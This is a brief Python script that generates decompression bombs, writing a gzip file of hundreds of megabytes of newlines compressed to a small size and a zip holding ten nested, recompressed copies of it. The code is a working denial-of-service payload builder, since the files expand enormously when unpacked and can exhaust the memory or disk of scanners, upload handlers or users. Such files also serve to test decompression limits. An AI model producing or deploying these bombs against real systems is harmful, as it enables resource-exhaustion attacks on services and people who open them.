from packing import *
import zlib
def zeros(n):
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b''.join(c.compress(b'\n' * 1000000) for _ in range(n)) + c.flush()
once = zeros(400)
put('bomb.gz', once)
inner = gzip.compress(once)
put('bomb.zip', zipped([('%d.gz' % i, inner) for i in range(10)]))
